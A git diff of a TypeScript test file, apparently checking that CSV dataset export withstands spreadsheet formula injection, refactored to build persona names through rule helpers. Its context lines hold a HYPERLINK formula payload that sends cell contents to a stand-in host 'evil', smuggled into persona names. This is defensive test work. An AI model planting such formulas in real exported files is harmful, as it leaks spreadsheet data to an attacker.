@@ -5,8 +5,10 @@ import { unzipSync } from 'fflate';
 import Papa from 'papaparse';
 import { afterAll, expect, test } from 'vitest';
 import { writeArchive } from '@/lib/engine/tasks/dataset-archive';
+import { personasOf } from '@/lib/rules/view/personas-of';
 import { run } from '@/lib/testing/commands';
 import { NOVEMBER, runConfig, withValues } from '@/lib/testing/populations';
+import { rulesOfPersonas } from '@/lib/testing/rules';
 
 const folder = mkdtempSync(join(tmpdir(), 'csv-texts-'));
 afterAll(() => rmSync(folder, { recursive: true }));
@@ -16,7 +18,9 @@ const FORMULA = '=HYPERLINK("http://evil/?x="&A1,"click")';
 const small = withValues(NOVEMBER, { 'population.users': 40 });
 const config = {
   ...small,
-  personas: small.personas.map((persona) => ({ ...persona, name: `${FORMULA}${persona.number}` })),
+  rules: rulesOfPersonas(
+    personasOf(small).map((persona) => ({ ...persona, name: `${FORMULA}${persona.number}` })),
+  ),
 };
 writeFileSync(inside('hostile.json'), JSON.stringify(config));
 
